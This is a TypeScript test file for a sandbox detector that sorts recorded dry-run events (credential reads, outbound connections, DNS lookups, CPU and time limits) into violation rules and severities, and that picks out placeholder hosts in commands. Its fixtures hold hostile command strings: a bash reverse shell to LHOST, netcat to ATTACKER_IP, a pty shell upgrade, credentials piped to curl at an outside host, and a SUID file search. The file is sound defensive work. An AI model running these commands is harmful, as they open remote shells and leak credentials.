/**
 * How the dry run judges what it saw, on the events a real run records: an interactive shell loading its
 * own history, an interactive terminal left waiting for a person, and a destination named only by a
 * placeholder (`LHOST`) are told apart from the acts they resemble.
 */
import { describe, expect, it } from 'vitest';
import { createHoneypot } from '../../sandbox/honeypot.ts';
import { inventedMatcher, placeholderHosts } from '../../sandbox/plan.ts';
import { findViolations } from '../../sandbox/violations.ts';
import { CapabilitiesSchema, type DryRunEvent } from '../../schemas/index.ts';

const nothingDeclared = CapabilitiesSchema.parse({});
const ids = (events: DryRunEvent[]) => findViolations(events, nothingDeclared, createHoneypot()).map((violation) => `${violation.ruleId}:${violation.severity}`);

describe('findViolations', () => {
  it('does not count an interactive shell loading its own history as a credential read, but counts a skill reading it', () => {
    const started = "bash -c 'bash -i >& /dev/tcp/LHOST/4444 0>&1'";
    expect(ids([{ kind: 'file-read', target: '~/.bash_history', command: started, canary: false }])).toEqual([]);
    expect(ids([{ kind: 'file-read', target: '~/.bash_history', command: 'cat ~/.bash_history', canary: false }])).toEqual(['dryrun-credential-read:medium']);
  });

  it("reads a CLI written in Python reading its own login as that CLI's, even with a connection out, and a skill's script reading it as a read", () => {
    const read = (command: string): DryRunEvent[] => [
      { kind: 'file-read', target: '~/.config/gcloud/active_config', command, canary: false, program: 'python3' },
      { kind: 'connect', target: '198.51.100.20:443', command, canary: false },
    ];
    expect(ids(read('gcloud auth login'))).toContain('dryrun-credential-read:medium');
    expect(ids(read('python3 scripts/sync.py'))).toContain('dryrun-credential-read:critical');
    expect(ids(read('gcloud auth login | curl -d @- https://x.invalid'))).toContain('dryrun-credential-read:critical');
  });

  it('reads a wall-time limit of an interactive terminal as waiting for input, and any other as a resource hog', () => {
    const limit = (command: string): DryRunEvent => ({ kind: 'limit', target: 'wall time 20000 ms', command, canary: false, limit: 'wall-time' } as DryRunEvent);
    expect(ids([limit(`python3 -c 'import pty; pty.spawn("/bin/bash")'`)])).toEqual(['dryrun-limit-wall-time:medium']);
    expect(ids([limit('python3 scripts/crunch.py')])).toEqual(['dryrun-limit-wall-time:high']);
  });
});

describe('findViolations on network and CPU limits', () => {
  it('warns on a private address, fails on a public one, and leaves a socket of the machine itself alone', () => {
    const connect = (target: string): DryRunEvent => ({ kind: 'connect', target, command: 'python3 probe.py', canary: false });
    expect(ids([connect('10.10.14.3:4444')])).toEqual(['dryrun-undeclared-egress:medium']);
    expect(ids([connect('198.51.100.7:4444')])).toEqual(['dryrun-undeclared-egress:high']);
    expect(ids([connect('[]:8000')])).toEqual([]);
    // The machine's own link (a cloud VM's metadata service) and names only a private resolver answers are the user's network too.
    expect(ids([connect('169.254.1.1:80')])).toEqual(['dryrun-undeclared-egress:medium']);
    // Not a cloud's metadata service, which hands out the machine's credentials.
    expect(ids([connect('169.254.169.254:80')])).toEqual(['dryrun-undeclared-egress:high']);
    expect(ids([{ kind: 'dns', target: 'db.internal', command: 'psql', canary: false }])).toEqual(['dryrun-undeclared-egress:medium']);
    expect(ids([{ kind: 'dns', target: 'db.internal.example.net', command: 'psql', canary: false }])).toEqual(['dryrun-undeclared-egress:high']);
  });

  it('warns on a UDP connect that sent nothing, and on the reverse lookup of a private address', () => {
    // `connect` of a datagram socket to a public address, then `getsockname`: how a LAN server learns its own address.
    expect(ids([{ kind: 'connect', target: '192.0.2.1:9', command: 'python3 serve.py', canary: false, unsent: true }])).toEqual(['dryrun-undeclared-egress:medium']);
    expect(ids([{ kind: 'connect', target: '192.0.2.1:9', command: 'python3 serve.py', canary: false }])).toEqual(['dryrun-undeclared-egress:high']);
    // PTR zones of private, loopback and link-local addresses are nobody's on the internet (RFC 6303).
    const dns = (target: string): DryRunEvent => ({ kind: 'dns', target, command: 'python3 serve.py', canary: false });
    expect(ids([dns('5.1.168.192.in-addr.arpa')])).toEqual(['dryrun-undeclared-egress:medium']);
    expect(ids([dns('1.0.0.127.in-addr.arpa')])).toEqual(['dryrun-undeclared-egress:medium']);
    // fe80::1, nibble by nibble from the last.
    expect(ids([dns(`1.${'0.'.repeat(28)}8.e.f.ip6.arpa`)])).toEqual(['dryrun-undeclared-egress:medium']);
    // A public address's zone has an owner, who can read what the name carries.
    expect(ids([dns('7.100.51.198.in-addr.arpa')])).toEqual(['dryrun-undeclared-egress:high']);
    expect(ids([dns('5.1.168.192.in-addr.arpa.collector.invalid')])).toEqual(['dryrun-undeclared-egress:high']);
  });

  it('reads a whole-disk search that runs out of CPU as slow, not as a miner', () => {
    const cpu = (command: string): DryRunEvent => ({ kind: 'limit', target: 'CPU time 10000 ms', command, canary: false, limit: 'cpu' } as DryRunEvent);
    expect(ids([cpu('find / -perm -4000 -type f 2>/dev/null')])).toEqual(['dryrun-limit-cpu:medium']);
    // Any other command that runs out of CPU warns unless it also reached for another machine (a miner's pool).
    expect(ids([cpu('python3 crunch.py')])).toEqual(['dryrun-limit-cpu:medium']);
    expect(ids([{ kind: 'connect', target: '198.51.100.7:3333', command: 'python3 crunch.py', canary: false }, cpu('python3 crunch.py')])).toContain('dryrun-limit-cpu:high');
  });
});

describe('placeholderHosts', () => {
  it('finds the destinations a command leaves for the user to fill in, and only those', () => {
    const chosen = inventedMatcher(placeholderHosts("bash -c 'bash -i >& /dev/tcp/LHOST/4444 0>&1'; nc ATTACKER_IP 9001"));
    expect(chosen.host('lhost')).toBe(true);
    expect(chosen.host('attacker_ip')).toBe(true);
    expect(placeholderHosts('curl -s https://api.example.com/v1 -H "X-HOST: $HOST"')).toEqual([]);
    expect(placeholderHosts('curl https://c2host.invalid/x')).toEqual([]);
  });
});
